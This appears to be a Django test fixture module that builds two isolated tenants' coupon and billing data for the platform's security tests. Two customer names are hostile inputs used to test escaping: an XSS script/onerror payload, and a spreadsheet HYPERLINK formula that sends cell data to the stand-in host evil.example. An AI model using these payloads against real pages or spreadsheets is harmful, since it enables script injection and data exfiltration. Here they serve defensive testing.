"""Two tenants' worlds for the security tests, built once per package through the services.

Tenant A is the demo of PRODUCT §11 (`demo.seeding`, with few accounts): Northwind
Distribution with its tier-2 resellers, Bluebird Cloud, Quiet Partners (function off),
Southgate, the users `distributor` … `root`, requests in several states, coupons,
deductions, daily and monthly bills. Tenant B is "Zeta Foreign Distribution" under `bd2`:
its own users, templates, requests in every state, coupons, usage, daily and monthly bills
and deductions, on days no tenant-A account has a bill. Names and account IDs of tenant B
are distinctive, so a page that shows one of them is caught by a plain substring test.

Everything is built inside one outer transaction that the package fixture rolls back, so
no other test package ever sees these rows. On-commit work (releases, postings) is run at
the end of each step as a commit would.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date, timedelta
from decimal import Decimal

from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.db.models import Q
from django.test import Client, TestCase
from django.utils import timezone

from accounts.models import (
    BD_GROUP,
    Partner,
    SubAccount,
)
from audit.models import AuditLog
from billing.models import (
    DailyBill,
    Deduction,
    MonthlyBill,
    UsageImport,
)
from billing.month_close import month_close
from billing.periods import month_start
from coupons.models import Coupon, CouponTemplate, IssuanceRequest
from coupons.services import (
    coupon_template_create,
    coupon_template_disable,
)
from tests import factories as f
from tests.factories import committed

User = get_user_model()

# The roles of PRODUCT §11, and who else may knock.
DEMO_ROLES = ("distributor", "operator", "viewer", "reseller", "tier2", "nocoupons",
              "customer", "bd", "bd2", "root")
ROLES = DEMO_ROLES + ("anonymous",)
# Tenant B's own users: walking as them puts tenant A's ids in their way, too.
ZETA_ROLES = ("zeta_admin", "zeta_customer")

ZETA_NAME = "Zeta Foreign Distribution"
ZETA_TIER2_NAME = "Zeta Tier2 Foreign Reseller"
ZETA_PREFIX = "ZF"
ZETA_USAGE_DAYS_AGO = (60, 61, 62)
DEMO_USAGE_DAYS = 35


# ---------------------------------------------------------------------------------------
# Scope: what belongs to whom


@dataclass
class Scope:
    """What one role may see: partners (partner users and BDs), or one sub-account."""

    role: str
    user: object | None
    partner_ids: frozenset[int] = frozenset()
    sub_account_id: int | None = None
    everything: bool = False  # the platform operator

    def q(self, partner_path: str) -> Q:
        """Rows of `partner_path` (a lookup to Partner; "" for Partner itself) in scope."""
        if self.everything:
            return Q()
        key = f"{partner_path}__in" if partner_path else "pk__in"
        return Q(**{key: self.partner_ids})


@dataclass(repr=False)
class World:
    users: dict[str, object]
    partners: dict[str, Partner]
    scopes: dict[str, Scope] = field(default_factory=dict)
    zeta_days: list[date] = field(default_factory=list)
    zeta_month: date | None = None
    customer_days: list[date] = field(default_factory=list)
    customer_month: date | None = None
    html_account: SubAccount | None = None
    formula_account: SubAccount | None = None
    sessions: dict[str, str] = field(default_factory=dict)  # role → session key
    cache: dict = field(default_factory=dict)  # tests' read-only lookups, per package

    def user(self, role: str):
        return self.users.get(role)

    def __repr__(self) -> str:  # hypothesis prints it with every failing example
        return f"<World of {len(self.users)} users, {len(self.partners)} partners>"

    def _repr_pretty_(self, printer, cycle) -> None:
        printer.text(repr(self))


# ---------------------------------------------------------------------------------------
# Building


USAGE_HEADER = "account_id,date,product_code,amount,currency"


def _quiet(*args, **kwargs) -> None:
    """The demo's log, silenced. Its month closes are refused here (its postings run only
    when its block ends, as on a commit): _close_months closes them after, and raises."""


def _close_months(first: date, last: date) -> None:
    """Close every ended month from `first`'s to `last`'s. A refusal raises and fails the
    build (the demo's own close only logs one), instead of surfacing later in a test."""
    month = month_start(first)
    while month < month_start(timezone.localdate()) and month <= month_start(last):
        with committed():
            month_close(month=month)
        month = month_start(month + timedelta(days=32))


def build_demo(*, accounts: int = 60, password: str = "pw") -> None:
    """Tenant A: the §11 demo world, with a small number of Northwind customers."""
    from demo import seeding

    with committed():
        seeding._seed_core(password=password, accounts=accounts, log=_quiet)


DEMO_USAGE_ACCOUNTS = ("NW000001", "NW000002", "NW000003", "BB000001")


def build_demo_usage(*, account_ids=DEMO_USAGE_ACCOUNTS, days: int = DEMO_USAGE_DAYS) -> None:
    """`days` of the demo's usage for a few tenant-A accounts, billed day by day (postings
    run when the block ends), its ended months closed. After tenant B's usage: a month the
    demo closes may hold tenant B's days too (today − 35 and today − 62 share a month on
    some days)."""
    from demo.usage import seed_usage

    today = timezone.localdate()
    start = today - timedelta(days=days)
    with TestCase.captureOnCommitCallbacks(execute=True):
        seed_usage(account_ids=list(account_ids), days=days, log=_quiet)
    _close_months(start, today)


def _build_zeta(bd2, today: date) -> None:
    """Tenant B: a distributor under bd2 with a bit of everything."""
    shop = f.make_shop(name=ZETA_NAME, bd=bd2, budget="5000.00", admin="zeta_admin",
                       operator="zeta_operator", template=False)
    zeta, admin, operator = shop.partner, shop.admin, shop.operator
    admin.email = "zeta_admin@example.com"
    admin.save(update_fields=["email"])
    zeta_t2, _ = f.make_tier2(zeta, name=ZETA_TIER2_NAME, bd=bd2,
                              account_id=f"{ZETA_PREFIX}RS000001",
                              account_name="Zetaco Tier2 Account")
    SubAccount.objects.bulk_create([
        SubAccount(partner=zeta, account_id=f"{ZETA_PREFIX}{i:06d}", name=f"Zetaco {i:03d} Ltd")
        for i in range(1, 13)
    ])
    SubAccount.objects.create(partner=zeta_t2, account_id=f"{ZETA_PREFIX}C000001",
                              name="Zetaco Downstream Ltd")
    accounts = {a.account_id: a for a in SubAccount.objects.filter(partner=zeta)}
    f.make_subaccount_user(accounts[f"{ZETA_PREFIX}000001"], "zeta_customer")

    def template(name, **terms):
        fields = dict(kind="cash", currency="USD", face_value=Decimal("40.00"),
                      cost_bearer="partner", issue_limit="unlimited", validity_type="fixed",
                      valid_from=today - timedelta(days=120),
                      valid_until=today + timedelta(days=60),
                      description=f"{name} description")
        fields.update(terms)
        return f.make_template(zeta, admin, name=name, **fields)

    cash = template("ZETA Cash Template Alpha")
    platform = template("ZETA Platform Template Beta", cost_bearer="platform",
                        face_value=Decimal("10.00"))
    discount = template("ZETA Discount Template Gamma", kind="discount",
                        face_value=Decimal("5.00"), discount_rate=Decimal("10"),
                        discount_uses=3)
    doomed = template("ZETA Doomed Template Delta")
    disabled = template("ZETA Disabled Template Epsilon")
    coupon_template_disable(template=disabled, acting_user=admin)

    def ids(*numbers):
        return [accounts[f"{ZETA_PREFIX}{n:06d}"] for n in numbers]

    f.approve(f.submitted(cash, admin, ids(1, 2, 3, 4, 5, 6)), bd2)
    f.approve(f.submitted(discount, admin, ids(1, 2)), bd2)
    f.submitted(platform, admin, ids(7, 8))
    f.submitted(cash, operator, ids(9))
    f.reject(f.submitted(cash, admin, ids(10)), bd2, reason="ZETA reject reason")
    f.cancel(f.submitted(cash, admin, ids(11)), admin)
    # Approved, then the template is disabled before the release: failed to issue.
    f.approve_and_fail(f.submitted(doomed, admin, ids(12)), bd2, admin)

    # Usage on days no tenant-A account has a bill; billed, posted, the month closed.
    days = [today - timedelta(days=n) for n in ZETA_USAGE_DAYS_AGO]
    rows = [(account, day, code, amount, "USD")
            for account in ids(1, 2, 3)
            for day in days
            for code, amount in (("ecs", "31.50"), ("oss", "12.25"))]
    f.bill_usage(rows, days, header=USAGE_HEADER, file_name="zeta-usage.csv")
    # A whole earlier month for the monthly bill: one day of usage, then the close.
    old_day = month_start(today - timedelta(days=100)) + timedelta(days=3)
    f.bill_usage([(a, old_day, "ecs", "55.00", "USD") for a in ids(1, 2)], [old_day],
                 header=USAGE_HEADER, file_name="zeta-old.csv")
    _close_months(old_day, old_day)


def _build_tier2_own() -> None:
    """Harbor IT (the `tier2` login) gets a template and a request of its own."""
    tier2 = User.objects.get(username="tier2")
    harbor = tier2.partner_membership.partner
    tpl = coupon_template_create(
        partner=harbor, acting_user=tier2, name="Harbor own template", kind="cash",
        currency="USD", face_value=Decimal("15.00"), cost_bearer="partner",
        issue_limit="one", validity_type="relative", valid_days=30,
    )
    f.submitted(tpl, tier2, SubAccount.objects.filter(partner=harbor).order_by("account_id")[:3])


def _build_northwind_failed() -> None:
    """A Northwind request that failed to issue (its template disabled before the release),
    so retry and withdraw have a row to act on."""
    distributor = User.objects.get(username="distributor")
    bd = User.objects.get(username="bd")
    northwind = distributor.partner_membership.partner
    doomed = coupon_template_create(
        partner=northwind, acting_user=distributor, name="Northwind doomed template",
        kind="cash", currency="USD", face_value=Decimal("12.00"), cost_bearer="partner",
        issue_limit="one", validity_type="relative", valid_days=30,
    )
    accounts = SubAccount.objects.filter(account_id__in=["NW000027", "NW000028"])
    failing = f.submitted(doomed, distributor, accounts.order_by("account_id"))
    failed = f.approve_and_fail(failing, bd, distributor)
    assert failed.status == IssuanceRequest.Status.FAILED


HTML_NAME = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _build_html_names() -> tuple[SubAccount, SubAccount]:
    """Northwind customers whose names are markup and a spreadsheet formula."""
    northwind = Partner.objects.get(name="Northwind Distribution")
    html = SubAccount.objects.create(partner=northwind, account_id="NWHTML0001",
                                     name=HTML_NAME)
    formula = SubAccount.objects.create(partner=northwind, account_id="NWFORM0001",
                                        name=FORMULA_NAME)
    return html, formula


def _build_api_keys() -> None:
    """A key of each tenant, made by its admin: the console's API keys page has rows."""
    from api.keys import api_key_create

    for username in ("distributor", "zeta_admin"):
        admin = User.objects.get(username=username)
        api_key_create(partner=admin.partner_membership.partner, acting_user=admin,
                       name=f"{username} key", role="operator")


def _build_webhooks() -> None:
    """An endpoint of each tenant with one delivery in its log. Its URL is a port nothing
    listens on, so a delivery a test let run would be refused at once, never sent out."""
    from django.test import override_settings

    from api.webhooks import EVENT_TYPES, webhook_endpoint_create, webhook_events_record

    for username in ("distributor", "zeta_admin"):
        admin = User.objects.get(username=username)
        partner = admin.partner_membership.partner
        with override_settings(WEBHOOK_ALLOW_LOCAL=True):
            endpoint, _secret = webhook_endpoint_create(
                partner=partner, acting_user=admin, url=f"http://127.0.0.1:9/{username}",
                events=list(EVENT_TYPES))
        webhook_events_record(partner_id=partner.pk, type="request.cancelled",
                              objects=[{"object": {"walker": username}}], endpoints=[endpoint])


def build_world() -> World:
    today = timezone.localdate()
    build_demo()
    bd2 = User.objects.get(username="bd2")
    # A BD group member lookup the admin uses (is_bd) needs the BD group to hold them.
    Group.objects.get(name=BD_GROUP)
    _build_zeta(bd2, today)
    build_demo_usage()
    _build_tier2_own()
    _build_northwind_failed()
    html_account, formula_account = _build_html_names()
    _build_api_keys()
    _build_webhooks()

    users = {u.username: u for u in User.objects.filter(
        username__in=DEMO_ROLES + ZETA_ROLES + ("zeta_operator",))}
    partners = {p.name: p for p in Partner.objects.all()}
    world = World(users=users, partners=partners, html_account=html_account,
                  formula_account=formula_account)
    world.zeta_days = [today - timedelta(days=n) for n in ZETA_USAGE_DAYS_AGO]
    world.zeta_month = (MonthlyBill.objects.filter(sub_account__partner__name=ZETA_NAME)
                        .order_by("month").values_list("month", flat=True).first())
    customer_account = users["customer"].subaccount_membership.sub_account
    world.customer_days = list(DailyBill.objects.filter(sub_account=customer_account)
                               .order_by("date").values_list("date", flat=True))
    world.customer_month = (MonthlyBill.objects.filter(sub_account=customer_account)
                            .order_by("month").values_list("month", flat=True).first())
    for role in ROLES + ZETA_ROLES:
        world.scopes[role] = scope_of(role, users.get(role))
        if users.get(role) is not None:
            # Signed in once for the package: a test's client only sets the cookie.
            client = Client()
            client.force_login(users[role])
            world.sessions[role] = client.cookies[settings.SESSION_COOKIE_NAME].value
    _check_world(world)
    return world


def scope_of(role: str, user) -> Scope:
    if user is None:
        return Scope(role=role, user=None)
    if user.is_superuser:
        return Scope(role=role, user=user, everything=True)
    membership = getattr(user, "partner_membership", None)
    if membership is not None:
        return Scope(role=role, user=user, partner_ids=frozenset([membership.partner_id]))
    sub = getattr(user, "subaccount_membership", None)
    if sub is not None:
        return Scope(role=role, user=user, sub_account_id=sub.sub_account_id)
    if user.is_staff:
        return Scope(role=role, user=user, partner_ids=frozenset(
            Partner.objects.filter(bd=user).values_list("pk", flat=True)))
    return Scope(role=role, user=user)


def _check_world(world: World) -> None:
    """The world has what the walk needs: every kind of row, on both sides."""
    zeta = world.partners[ZETA_NAME]
    northwind = world.partners["Northwind Distribution"]
    for partner in (zeta, northwind):
        assert CouponTemplate.objects.filter(partner=partner).exists()
        assert Coupon.objects.filter(partner=partner).exists(), partner
        assert Deduction.objects.filter(partner=partner).exists(), partner
        assert DailyBill.objects.filter(sub_account__partner=partner).exists(), partner
        assert MonthlyBill.objects.filter(sub_account__partner=partner).exists(), partner
        assert AuditLog.objects.filter(partner=partner).exists(), partner
        for status in ("pending", "issued"):
            assert IssuanceRequest.objects.filter(partner=partner, status=status).exists(), (
                partner, status)
    for status in ("rejected", "cancelled", "failed"):
        assert IssuanceRequest.objects.filter(partner=zeta, status=status).exists(), status
    assert UsageImport.objects.exists()
    assert world.zeta_month and world.customer_month and world.customer_days
    assert not set(world.zeta_days) & set(world.customer_days)
